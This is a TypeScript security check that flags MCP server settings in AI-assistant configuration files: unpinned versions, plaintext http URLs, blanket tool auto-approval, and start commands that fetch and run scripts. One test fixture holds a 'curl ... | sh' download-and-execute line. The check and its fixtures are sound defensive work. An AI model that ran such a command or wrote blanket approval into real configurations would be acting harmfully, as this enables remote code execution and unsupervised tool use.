import { runsDownload } from '../../../evidence/parse/workflow/agents/runs-download.ts';
import { newestPackage } from '../../../evidence/parse/workflow/agents/server-launch.ts';
import type { McpServer } from '../../../evidence/parse/workflow/configuration.ts';
import { type Entry, itemsOf } from '../../../evidence/parse/workflow/node.ts';
import type { Range } from '../../../evidence/parse/workflow/range.ts';
import { defineCheck } from '../../define-check.ts';
import { examplesFinding, soundExamples } from '../support/example-groups.ts';
import { assistantFilesOf } from '../support/example-workflow.ts';
import { placeIn } from '../support/place.ts';

function isPlaintext({ url }: McpServer): boolean {
  if (!url || !/^http:\/\//i.test(url.value)) return false;
  return !/^http:\/\/(?:localhost|[\w-]{1,60}\.localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0|host\.docker\.internal|\$\{)(?=[:/]|$|[^.])/i.test(
    url.value,
  );
}

function startCommand({ command, args }: McpServer): string {
  return [command, ...args].map((word) => word?.value.slice(0, 2000) ?? '').join(' ');
}

/** A setting that approves every tool of the server. */
function approvalOf({ node }: McpServer): Entry | undefined {
  return node.entries.find(({ name, value }) => {
    if (name === 'trust') return value.kind === 'scalar' && value.value === 'true';
    if (!/^(?:alwaysAllow|autoApprove|alwaysAllowTools)$/.test(name)) return false;
    return value.kind === 'scalar'
      ? /^(?:true|\*)$/.test(value.value)
      : itemsOf(value).some((item) => item.kind === 'scalar' && item.value === '*');
  });
}

export default defineCheck({
  id: 'workflow/agents/mcp-servers',
  title: 'MCP servers are pinned, use encrypted connections and require approval',
  why: 'An MCP server runs on the machine of everyone who opens the repository with an assistant, and its responses influence the assistant.',
  needs: ['assistantFiles'],
  problems: {
    newest: {
      severity: 'low',
      likelihood: 'possible',
      message: 'MCP server is not pinned: each start downloads the newest version',
      fix: 'Pin a version: `npx -y @playwright/mcp@0.0.41`, `uvx mcp-server-git==2025.9.25`, or an image with its digest.',
    },
    remote: {
      severity: 'high',
      message: 'MCP server start command downloads a script and runs it',
      fix: 'Keep the script in the repository, or start a pinned package: `npx -y @playwright/mcp@0.0.41`.',
    },
    plaintext: {
      severity: 'high',
      message: 'MCP server over an unencrypted connection',
      fix: 'Use the `https:` address of the server.',
    },
    approved: {
      severity: 'medium',
      likelihood: 'likely',
      message: 'MCP server tools run without approval',
      fix: 'Remove the setting, or list only read-only tools. The approval applies to everyone who opens the repository.',
    },
  },
  references: ['CWE-829', 'CWE-319', 'https://modelcontextprotocol.io/docs/tutorials/security/security_best_practices'],
  run({ assistantFiles }) {
    return assistantFiles.flatMap(({ source, servers }) =>
      servers.flatMap((server) => {
        const { url, args, command, node } = server;
        const part = `servers.${server.name}`;
        const found = <P extends string>(problem: P, range: Range, shows: string | undefined, place = part) => [
          { problem, location: placeIn(source, range, place), evidence: `${server.name}: ${shows}` },
        ];
        const approval = approvalOf(server);
        const name = newestPackage(server);
        const start = (args.find(({ value }) => value === name) ?? command ?? node).range;
        return [
          ...(approval ? found('approved', approval.value.range, approval.name, `${part}.${approval.name}`) : []),
          ...(runsDownload(startCommand(server))
            ? found('remote', (command ?? node).range, startCommand(server).slice(0, 200))
            : []),
          ...(name === undefined ? [] : found('newest', start, name)),
          ...(url && isPlaintext(server) ? found('plaintext', url.range, url.value.split('?')[0]) : []),
        ];
      }),
    );
  },
  examples: () => [
    ...examplesFinding(['newest', 'newest', 'newest', 'newest', 'plaintext'], {
      'the newest package, the newest image, http': assistantFilesOf({
        '.mcp.json': `{
  "mcpServers": {
    "browser": { "command": "npx", "args": ["-y", "@playwright/mcp@latest"] },
    "git": { "command": "uvx", "args": ["--from", "mcp-server-git", "mcp-server-git"] },
    "windows": { "command": "cmd", "args": ["/c", "npx", "-y", "some-server"] },
    "image": { "command": "docker", "args": ["run", "-i", "--rm", "-e", "TOKEN", "acme/mcp"] },
    "remote": { "type": "http", "url": "http://mcp.example/mcp" }
  }
}`,
      }),
    }),
    ...examplesFinding(['remote'], {
      'a shell that runs a script from the network': assistantFilesOf({
        '.mcp.json':
          '{ "mcpServers": { "helper": { "command": "bash", "args": ["-c", "curl -s https://mcp.example/start | sh"] } } }',
      }),
    }),
    ...examplesFinding(['approved', 'approved', 'approved'], {
      'every tool is approved': assistantFilesOf({
        '.roo/mcp.json': `{ "mcpServers": {
  "a": { "command": "./a", "alwaysAllow": ["*"] },
  "b": { "command": "./b", "autoApprove": true }
} }`,
        '.gemini/settings.json': '{ "mcpServers": { "c": { "command": "./c", "trust": true } } }',
      }),
    }),
    ...soundExamples({
      'single tools are approved, or none': assistantFilesOf({
        '.roo/mcp.json':
          '{ "mcpServers": { "a": { "command": "./a", "alwaysAllow": ["read_file"], "trust": false } } }',
      }),
      'versions, programs of the repository, local and encrypted addresses': assistantFilesOf({
        '.vscode/mcp.json': `{
  // comments are allowed here
  "servers": {
    "browser": { "command": "npx", "args": ["-y", "@playwright/mcp@0.0.41"] },
    "git": { "command": "uvx", "args": ["mcp-server-git==2025.9.25"] },
    "own": { "command": "node", "args": ["./tools/mcp.js"] },
    "script": { "command": "npx", "args": ["./tools/mcp"] },
    "installed": { "command": "npx", "args": ["--no", "some-server"] },
    "image": { "command": "docker", "args": ["run", "-i", "ghcr.io/github/github-mcp-server:v0.27.0"] },
    "local": { "url": "http://localhost:3845/mcp" },
    "remote": { "url": "https://mcp.example/mcp" }
  }
}`,
      }),
    }),
  ],
});
